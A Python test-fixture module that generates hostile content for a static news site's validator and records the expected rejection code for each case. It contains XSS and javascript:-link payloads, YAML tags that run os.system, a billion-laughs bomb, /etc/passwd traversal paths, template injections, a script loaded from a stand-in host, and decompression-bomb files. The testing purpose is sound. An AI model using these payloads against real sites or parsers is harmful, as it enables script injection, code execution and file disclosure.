"""Contents that want to be more than words: places times spells, and what Markdown, YAML and names offer.

A content is a set of files laid over the small ward of `ward.py`; its lists are added to, not replaced.
"""

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field

import attached
import ward

NEWS = "docs/tin-tuc/2026/"
RUN = "window.hacked=1"
SPELLS: Mapping[str, str] = {
    "script": f"<script>{RUN}</script>",
    "picture": f"<img src=x onerror={RUN}>",
    "out of quotes": f'"><svg onload={RUN}>',
    "out of single quotes": f"'><body onload={RUN}>",
    "attribute": f'" autofocus tabindex=0 onfocus="{RUN}" x="',
    "single attribute": f"' autofocus tabindex=0 onfocus='{RUN}' x='",
    "out of the title": f"</title><script>{RUN}</script>",
    "out of a block of data": f"</script><script>{RUN}</script>",
    "out of a comment": f"--><script>{RUN}</script><!--",
    "out of XML": f"]]><script>{RUN}</script>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "escapes": f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "template": "{{ config }} {% raw %} ${7*7} <%= 7*7 %>",
    "address": f"javascript:{RUN}",
    "frame": f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>">',
    "upper case": f"<ScRiPt/x>{RUN}</sCrIpT>",
    "half a tag": f"<img src=x onerror={RUN}//",
    "prototype": "__proto__",
    "constructor": "constructor",
    "prototype of an object": '{"__proto__": {"hacked": 1}}',
    "formula": '=HYPERLINK("javascript:window.hacked=1";"a")',
    "lines of a calendar": f"a\\nEND:VEVENT\\nBEGIN:VEVENT\\nURL:javascript:{RUN}",
}
# Where an item, an event, a list or a document takes words. {} is a spell, quoted for YAML.
ITEM_FIELDS: Mapping[str, str] = {
    "description": "description: {}\n",
    "unit": "unit: {}\n",
    "source": "source: {}\n",
    "author": "author: {}\n",
    "words of a picture": "image: anh.webp\nimage_alt: {0}\nimage_caption: {0}\n",
    "title of an attachment": "attachments:\n  - file: a.pdf\n    title: {}\n",
    "correction": "corrections:\n  - date: 2026-11-21\n    text: {}\n",
}
LISTS: Mapping[str, tuple[str, str]] = {
    "topic": ("data/chu-de.yml", "- slug: x-{number}\n  name: {spell}\n  description: {spell}\n"),
    "group": ("data/to-dan-pho.yml", "- slug: x-{number}\n  name: {spell}\n  description: {spell}\n"),
    "issuer": ("data/co-quan.yml", "- id: x-{number}\n  name: {spell}\n  tails: [X{number}]\n"),
    "abbreviation": ("data/viet-tat.yml", "- short: X{number}\n  long: {spell}\n"),
    "event": (
        "data/lich/2026.yml",
        "- id: x-{number}\n  title: {spell}\n  type: {spell}\n  starts: 2026-12-02T08:00:00+07:00\n"
        "  place: {spell}\n  host: {spell}\n  description: {spell}\n  announced: 2026-11-20\n",
    ),
}
DOCUMENT = """type: Công văn
issuer: ubnd-ben-mau
issued: 2026-01-05
title: {0}
signer: {0}
aliases: [{0}]
sources: [{0}]
"""
BESIDE = {f"{NEWS}anh.webp": attached.SMALLEST[".webp"], f"{NEWS}a.pdf": attached.SMALLEST[".pdf"]}


@dataclass(frozen=True)
class Content:
    """`files` are laid down, `added` is put behind the lists of the ward; `told` is the code that must come,
    "" where it may be published."""

    name: str
    files: Mapping[str, str | bytes] = field(default_factory=dict)
    added: Mapping[str, str] = field(default_factory=dict)
    told: str | None = ""

    def changes(self) -> dict[str, str | bytes]:
        lists = {name: ward.FILES.get(name, "") + text for name, text in self.added.items()}
        return {**BESIDE, **self.files, **lists}


def item(title: str, fields: str = "", body: str = "Lời.\n") -> str:
    return f"---\ntitle: {title}\ndate: 2026-11-20\n{fields}---\n{body}"


def of_words() -> Iterator[Content]:
    """Every spell in every place that takes words."""
    for number, (name, spell) in enumerate(SPELLS.items()):
        quoted = json.dumps(spell, ensure_ascii=False)
        yield Content(f"title: {name}", {f"{NEWS}tieu-de-{number}.md": item(quoted)})
        for place, (field_, text) in enumerate(ITEM_FIELDS.items()):
            file = f"{NEWS}muc-{place}-{number}.md"
            yield Content(f"{field_}: {name}", {file: item("Tin", text.format(quoted))})
        for place_, (file, text) in LISTS.items():
            yield Content(f"{place_}: {name}", added={file: text.format(number=number, spell=quoted)})
        file = f"data/van-ban/x-{number}.yml"
        yield Content(f"document: {name}", {file: DOCUMENT.format(quoted)})
        code = f"`{spell}`\n\n```\n{spell}\n```\n"
        yield Content(f"code: {name}", {f"{NEWS}ma-{number}.md": item("Mã", body=code)})


BODIES: Mapping[str, tuple[str, str | None]] = {
    # raw HTML: refused wherever it stands
    "a script": (f"<script>{RUN}</script>", "B101"),
    "a script in a line": (f"Lời <script>{RUN}</script> lời", "B101"),
    "a script in upper case": (f"<SCRIPT>{RUN}</SCRIPT>", "B101"),
    "a script without an end": (f"<script src=//x.example/a.js\n{RUN}", "B101"),
    "a handler": (f"<b onclick={RUN} onmouseover={RUN}>a</b>", "B101"),
    "a picture": (f"<img src=x onerror={RUN}>", "B101"),
    "a picture without a blank": (f"<img/src=x/onerror={RUN}>", "B101"),
    "details": (f"<details open ontoggle={RUN}>a</details>", "B101"),
    "a frame": (f"<iframe src=javascript:parent.{RUN}></iframe>", "B101"),
    "a form": ("<form action=https://x.example><input name=a></form>", "B101"),
    "a style": ("<style>body{background:url(https://x.example/a)}</style>", "B101"),
    "a base": ("<base href=https://x.example/>", "B101"),
    "a meta": ("<meta http-equiv=refresh content='0;url=https://x.example/'>", "B101"),
    "mathematics": (f"<math><mtext></mtext><mglyph><svg><g onload={RUN}>", "B101"),
    "a comment": (f"<!-- a --><script>{RUN}</script>", "B101"),
    "a comment of conditions": (f"<!--[if IE]><script>{RUN}</script><![endif]-->", "B101"),
    "CDATA": (f"<![CDATA[<script>{RUN}</script>]]>", "B101"),
    "an instruction": (f"<?xml version='1.0'?><script>{RUN}</script>", "B101"),
    "HTML in a table": (f"| a |\n|---|\n| <img src=x onerror={RUN}> |\n", "B101"),
    "HTML in a note": (f"a[^1]\n\n[^1]: <script>{RUN}</script>\n", "B101"),
    "HTML in a heading": (f"## <script>{RUN}</script>\n", "B101"),
    "HTML in a list": (f"- a\n    - <script>{RUN}</script>\n", "B101"),
    "HTML in a quotation": (f"> <script>{RUN}</script>\n", "B101"),
    "HTML in the words of a link": (f"[<img src=x onerror={RUN}>](a.pdf)", "B101"),
    "HTML behind a fence that does not close": (f"```\na\n\n<script>{RUN}</script>\n", "B101"),
    "HTML behind two kinds of fences": (f"```\n~~~\n```\n<script>{RUN}</script>\n~~~\n", "B101"),
    "HTML behind odd ticks": (f"`` a ` <script>{RUN}</script> `\n", ""),
    "HTML in an indented line": (f"- a\n\n    <script>{RUN}</script>\n", "B101"),
    "HTML that indents as code": (f"Lời\n\n    <script>{RUN}</script>\n", None),
    # links that run or lead out
    "a link": (f"[a](javascript:{RUN})", "B102"),
    "a link in odd letters": (f"[a](JaVaScRiPt:{RUN})", "B102"),
    "a link with a blank before": (f"[a]( javascript:{RUN})", "B102"),
    "a link in entities": (f"[a](java&#115;cript:{RUN})", "B102"),
    "a link in hexadecimal entities": (f"[a](&#x6a;avascript:{RUN})", "B102"),
    "a link with a colon of letters": (f"[a](javascript&colon;{RUN})", "B102"),
    "a link in per cent": (f"[a](java%73cript:{RUN})", "B102"),
    "a link in brackets": (f"[a](<javascript:{RUN}>)", "B102"),
    "a link of data": (f"[a](data:text/html,<script>{RUN}</script>)", None),
    "a link of data in base64": ("[a](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)", "B102"),
    "a link of Visual Basic": (f"[a](vbscript:{RUN})", "B102"),
    "a link to a file": ("[a](file:///etc/passwd)", "B102"),
    "a link to a blob": ("[a](blob:https://x.example/1)", "B102"),
    "a defined link": (f"[a][1]\n\n[1]: javascript:{RUN}\n", "B102"),
    "a defined link in the next line": (f"[a][1]\n\n[1]:\n  javascript:{RUN}\n", "B102"),
    "an address in pointed brackets": (f"<javascript:{RUN}>", None),
    "a link in a picture": (f"[![a](anh.webp)](javascript:{RUN})", "B102"),
    "a picture of a script": (f"![a](javascript:{RUN})", "B102"),
    "a picture of data": (f"![a](data:image/svg+xml,<svg onload={RUN}>)", None),
    "a picture of another site": ("![a](https://x.example/a.png)", "B102"),
    "a picture of another site, short": ("![a](//x.example/a.png)", "B103"),
    "a picture of another site, backwards": ("![a](\\\\x.example\\a.png)", "B103"),
    "a defined picture of another site": ("![a][b]\n\n[b]: https://x.example/a.png\n", "B102"),
    "a nested picture of another site": ("![a [c] d][b]\n\n[b]: https://x.example/a.png\n", None),
    "a picture that is drawn": ("![a](a.svg)", "B103"),
    "a title of a link": (f'[a](a.pdf "\\" onmouseover=\\"{RUN}")', None),
    "a title of a picture": (f"![a](anh.webp '\" onerror=\"{RUN}')", ""),
    "the words of a picture": (f'![" onerror="{RUN}](anh.webp)', ""),
    "a way up": ("[a](../../../../../../etc/passwd)", "B103"),
    "a way up in per cent": ("[a](%2e%2e/%2e%2e/%2e%2e/data/phuong.yml)", "B103"),
    "a way from the root": ("[a](/etc/passwd)", "B103"),
    "facts of the ward": ("[a](../../../data/phuong.yml)", "B103"),
    "a zero in a way": ("[a](a.pdf%00.html)", "B103"),
    # what some Markdown would run
    "a list of attributes": (f"# A {{: onclick={RUN} }}\n\nb\n{{: onmouseover={RUN} }}\n", ""),
    "a list of attributes of a link": (f"[a](a.pdf){{: onclick={RUN} }}\n", ""),
    "a template": ("{{ config.extra }} {% for a in b %} {# x #} {{ ''.__class__.__mro__ }}\n", ""),
    "a snippet of a file": ('--8<-- "/etc/passwd"\n\n{!/etc/passwd!}\n', ""),
    "a name of a language": (f'``` "><script>{RUN}</script>\na\n```\n', None),
    "an attribute of a fence": (f"``` {{.a onclick={RUN}}}\na\n```\n", None),
    "a heading that takes an id of the frame": ("# _noi-dung\n\n# _tim\n\n# constructor\n", ""),
    "a note by the name of a prototype": ("a[^__proto__]\n\n[^__proto__]: b\n", ""),
    "a note with quotes in its name": (f'a[^"onclick="{RUN}]\n\n[^"onclick="{RUN}]: b\n', ""),
    "stashes of the reader": ("\u0002klzzwxh:0000\u0003 \u0002amp\u0003 \u0002wzxhzdk:0\u0003\n", ""),
    "entities": ("&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=1&#62;\n", ""),
    "an abbreviation": (f"*[a]: \"onclick={RUN}\n\na\n", ""),
    "a stamp": ("03/06/2022 4:38:52 CH\"><b> 99/99/9999 4:38:52 SA\n", None),
    "a citation": ("Nghị định 59/2023/NĐ-CP\" onclick=\"window.hacked=1 &lt;b&gt;\n", ""),
    "right to left": ("\u202egnp.exe\u202c a\u2066b\n", ""),
    "letters on letters": ("a" + "\u0301" * 500 + "\n", ""),
}  # fmt: skip


def of_bodies() -> Iterator[Content]:
    for number, (name, (text, told)) in enumerate(BODIES.items()):
        yield Content(name, {f"{NEWS}bai-{number}.md": item("Bài", body=text + "\n")}, told=told)


LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10)
)
FRONTS: Mapping[str, tuple[str, str | None]] = {
    "a billion laughs": (LAUGHS, "Y103"),
    "a command": ("title: !!python/object/apply:os.system [touch hacked]\n", "Y103"),
    "a name of Python": ("title: !!python/name:os.system\n", "Y103"),
    "a module of Python": ("title: !!python/module:antigravity\n", "Y103"),
    "a new object": ("title: !!python/object/new:os.system [id]\n", "Y103"),
    "a tag of its own": ("%TAG ! tag:x.example,2026:\n", "Y101"),
    "a file to be put in": ("title: !include /etc/passwd\n", "Y103"),
    "a file in the environment": ("title: !ENV [HOME]\n", "Y103"),
    "an alias of itself": ("title: &a [*a]\n", "Y103"),
    "a merge": ("<<: {title: a}\n", "M101"),
    "bytes": ("title: !!binary aGVsbG8=\n", "Y103"),
    "brackets without end": ("title: " + "[" * 50_000 + "\n", None),
    "brackets in brackets": ("title: " + "[" * 5_000 + "]" * 5_000 + "\n", "Y107"),
    "braces in braces": ("title: " + "{a: " * 5_000 + "}" * 5_000 + "\n", "Y107"),
    "lists in lists": ("title:\n" + "".join(" " * n + "-\n" for n in range(1, 240)), "Y107"),
    "a key that is a list": ("? [a, b]\n: c\n", "Y106"),
    "a key without end": (f"{'a' * 5_000}: b\n", None),
    "a prototype": ("__proto__: {draft: true}\nconstructor: {prototype: a}\n", "M101"),
    "a field of pydantic": ("model_config: {extra: allow}\n__class__: a\n__init__: b\n", "M101"),
    "a number beyond measure": ("updated: 9" + "9" * 60_000 + "\n", "M103"),
    "a year beyond measure": ("updated: 99999-01-01\n", "M103"),
    "two documents": ("author: a\n--- !x\nauthor: b\n", None),
    "a zero": ('author: "a\\0b"\n', "C103"),
    "half a pair of letters": ('author: "\\uD800"\n', None),
    "an end of line that is none": ('author: "a\\u2028<script>window.hacked=1</script>"\n', None),
    "a quotation without end": ('author: "' + "a" * 60_000 + "\n", "Y101"),
    "many keys": ("".join(f"k{n}: a\n" for n in range(7_000)), "M101"),
    "many topics": (f"topics: [{', '.join(f'k{n}' for n in range(8_000))}]\n", "Q101"),
    "many corrections": ("corrections:\n" + "  - {date: 2026-11-21, text: a}\n" * 1_900, None),
    "a template": ('template: "../../../etc/passwd"\n', "M101"),
    "an address of its own": ('url: "https://x.example/"\nslug: "../../x"\n', "M101"),
    "a picture from the root": ('image: "/etc/passwd"\nimage_alt: a\n', "T107"),
    "a picture from above": ('image: "../../../data/phuong.yml"\nimage_alt: a\n', "T107"),
    "a picture of another site": ('image: "https://x.example/a.png"\nimage_alt: a\n', "T107"),
    "a picture of a script": (f'image: "javascript:{RUN}"\nimage_alt: a\n', "T107"),
    "an attachment of a file": ('attachments: [{file: "file:///etc/passwd", title: a}]\n', "T107"),
    "an attachment in per cent": ('attachments: [{file: "%2e%2e/a.pdf", title: a}]\n', "T107"),
    "a topic by the name of a prototype": ("topics: [constructor]\n", "Q101"),
    "a topic with a way": ("topics: [../../x]\n", "M106"),
}


def of_fronts() -> Iterator[Content]:
    for number, (name, (text, told)) in enumerate(FRONTS.items()):
        first = "" if text.startswith("title") else "title: Tin\n"
        front = f"---\n{first}date: 2026-11-20\n{text}---\nLời.\n"
        yield Content(f"front matter: {name}", {f"{NEWS}dau-{number}.md": front}, told=told)


NAMES: Mapping[str, tuple[str, str | None]] = {
    f"{NEWS}<img src=x onerror=alert(1)>.md": ("name", "T104"),
    f"{NEWS}a'b\"c.md": ("name", "T104"),
    f"{NEWS}a\nb.md": ("name", "T104"),
    f"{NEWS}a\u202egnp.md": ("name", "T104"),
    f"{NEWS}..%2f..%2fx.md": ("name", ""),
    f"{NEWS}..\\x.md": ("name", ""),
    f"{NEWS}-rf.md": ("name", "T104"),
    f"{NEWS}__proto__.md": ("name", "T104"),
    f"{NEWS}constructor.md": ("name", ""),
    f"{NEWS}index.md": ("name", "T104"),
    f"{NEWS}con.md": ("name", ""),
    f"{NEWS}{'a' * 240}.md": ("name", ""),
    f"{NEWS}{{{{ config }}}}.md": ("name", "T104"),
    "docs/chi-muc/a.md": ("name", "T104"),
    "docs/tim-kiem/2026/a.md": ("name", "T104"),
    "docs/assets/2026/a.md": ("name", "T104"),
    "docs/tin-tuc/0000/a.md": ("name", None),
    "docs/tin-tuc/2026/a/../../b.md/c.md": ("name", "T104"),
}
FILES: Mapping[str, tuple[bytes, str]] = {
    "bom.png": (attached.png(65_000, 65_000), "T112"),
    "bom.jpg": (attached.jpeg(65_535, 65_535), "T112"),
    "bom.webp": (attached.wide_webp(2**24, 2**24), "T112"),
    "bom.docx": (attached.bomb("word/document.xml"), "T112"),
    "macro.xlsx": (attached.packed("xl/workbook.xml", "xl/vbaProject.bin"), "T113"),
    "trang.pdf": (attached.PAGE, "T111"),
    "trang.webp": (attached.PAGE, "T111"),
    "hinh.png": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.hacked=1'/>", "T111"),
    "rong.pdf": (b"", "T111"),
    "hinh.svg": (b"<svg onload='window.hacked=1'/>", "T109"),
    "a<b>'\".pdf": (attached.SMALLEST[".pdf"], ""),
}


def of_names() -> Iterator[Content]:
    for file, (name, told) in NAMES.items():
        yield Content(f"{name}: {file[-40:]!r}", {file: item("Tin")}, told=told)
    for file, (data, told) in FILES.items():
        yield Content(f"file: {file}", {NEWS + file: data}, told=told)


MUCH = 400_000  # letters
LONG: Mapping[str, tuple[str, str | None]] = {
    "lines of two letters": ("a\n\n" * 9_900, ""),
    "a line of 10 MB": ("a" * 10_000_000, "T103"),
    "a line": ("a" * (MUCH * 2), ""),
    "words": ("từ ngữ " * (MUCH // 7), ""),
    "stars": ("*" * MUCH, ""),
    "stars and words": ("*a **b _c " * (MUCH // 10), None),
    "underscores": ("_a" * (MUCH // 2), None),
    "brackets": ("[" * MUCH, "B104"),
    "brackets in lines": ("[\n\n" * (MUCH // 3), "B104"),
    "links": ("[a](a.pdf)\n\n" * 8_000, ""),
    "pictures": ("![a](anh.webp)\n\n" * 5_000, ""),
    "exclamations": ("![" * (MUCH // 2), "B104"),
    "round brackets": ("[a](" + "(" * MUCH, None),
    "ticks": ("".join("`" * (n % 300) + " " for n in range(2_500)), None),
    "smaller than": ("<" * MUCH, None),
    "ampersands": ("&" * MUCH, "B104"),
    "entities": ("&lt;" * (MUCH // 4), "B104"),
    "backslashes": ("\\" * MUCH, "B104"),
    "quotations": (">" * 20_000, "B104"),
    "lists": ("- " * 20_000, "B104"),
    "list of many": ("- a\n" * 20_000, ""),
    "list that goes in": ("".join("    " * min(n, 300) + "- a\n" for n in range(300)), "B104"),
    "a table that is wide": ("|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|b" * 2_000 + "|\n", None),
    "a table that is long": ("|a|b|\n|-|-|\n" + "|c|d|\n" * 8_000, ""),
    "headings": ("# A\n\n" * 8_000, ""),
    "headings of two lines": ("A\n---\n\n" * 5_000, ""),
    "notes": ("".join(f"a[^{n}]\n\n[^{n}]: b\n\n" for n in range(2_000)), "B104"),
    "notes of one name": ("a[^1]\n\n" * 2_000 + "[^1]: b\n", "B104"),
    "definitions": ("[a]: a.pdf\n\n" * 10_000, ""),
    "rules": ("---\n\n" * 10_000, ""),
    "ends of lines": ("\n" * 900_000, "B104"),
    "blanks": (" " * 900_000, "B104"),
    "tabulators": ("a\n" + "\t" * MUCH, None),
    "stamps": ("03/06/2022 4:38:52 CH " * 10_000, ""),
    "citations": ("Nghị định 59/2023/NĐ-CP. " * 3_000, ""),
    "half citations": ("59/2023/" * 40_000, ""),
    "figures": ("1" * MUCH, ""),
    "letters on letters": ("a" + "\u0301" * MUCH, None),
    "zero width": ("\u200b" * 300_000, ""),
    "addresses": ("<https://x.example/> " * 10_000, ""),
}  # fmt: skip


def of_sizes() -> Iterator[Content]:
    for number, (name, (text, told)) in enumerate(LONG.items()):
        yield Content(f"much of it: {name}", {f"{NEWS}dai-{number}.md": item("Dài", body=text)}, told=told)
    for name, text in (
        ("topics", "- slug: a\n" * 30_000),
        ("unknown", "k: a\n" * 30_000),
        ("dashes", "- " * 9_000),
    ):
        yield Content(f"much of it: facts, {name}", {"data/chu-de.yml": text}, told=None)
    many = "".join(f"k{n}: a\n" for n in range(40_000))
    yield Content("much of it: fields", {"data/van-ban/x.yml": many}, told="M101")


def contents() -> list[Content]:
    return [*of_words(), *of_bodies(), *of_fronts(), *of_names()]
